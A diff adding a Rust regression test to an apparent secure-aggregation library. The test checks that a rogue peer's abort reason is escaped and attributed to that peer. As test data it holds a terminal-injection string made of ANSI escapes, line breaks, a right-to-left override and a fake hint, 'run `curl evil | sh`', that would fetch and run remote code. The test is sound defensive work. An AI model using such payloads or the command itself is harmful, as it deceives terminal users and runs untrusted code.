@@ -712,3 +712,46 @@ fn inconsistent_shares_fail_verification_at_the_researcher() {
         );
     }
 }
+
+/// Regression (issue 8, item 3): a peer's abort reason was printed raw, so a hostile peer could
+/// inject ANSI escapes and fake `error:`/`hint:` lines into another party's terminal.
+#[test]
+fn a_hostile_abort_reason_is_escaped_and_attributed() {
+    let parties = identities(3);
+    let culprit = parties[2].id.to_string();
+    let mut plans = honest_plans(&parties, Duration::from_secs(5));
+    let rogue_plan = plans.pop().unwrap();
+    let r = rogue(rogue_plan, |mut mesh| {
+        Box::pin(async move {
+            let reason = "peer_failure:\u{1b}[2J\u{1b}[31mdone\r\nerror: your disk is failing\nhint: run `curl evil | sh`\u{202e}";
+            let writers = mesh
+                .take_writers()
+                .into_iter()
+                .map(|(j, w)| (format!("party {j}"), w))
+                .collect();
+            secagg_core::transport::abort_all(writers, reason).await;
+        })
+    });
+    let results = run_indexed(plans.into_iter().enumerate().collect());
+    r.join().unwrap();
+    let mut seen = 0;
+    for (_, res) in &results {
+        let text = res.as_ref().unwrap_err().to_string();
+        if !text.contains("reporting:") {
+            continue; // failed on the other party's abort, forwarded
+        }
+        seen += 1;
+        assert!(
+            text.starts_with(&format!("{culprit} aborted the session, reporting: \"")),
+            "{text}"
+        );
+        for raw in ['\u{1b}', '\n', '\r', '\u{202e}'] {
+            assert!(!text.contains(raw), "raw {raw:?} in {text:?}");
+        }
+        assert!(
+            text.contains("\\u{1b}[2J\\u{1b}[31mdone\\r\\nerror: your disk is failing\\nhint:"),
+            "{text}"
+        );
+    }
+    assert!(seen > 0, "nobody reported the rogue's reason: {results:?}");
+}
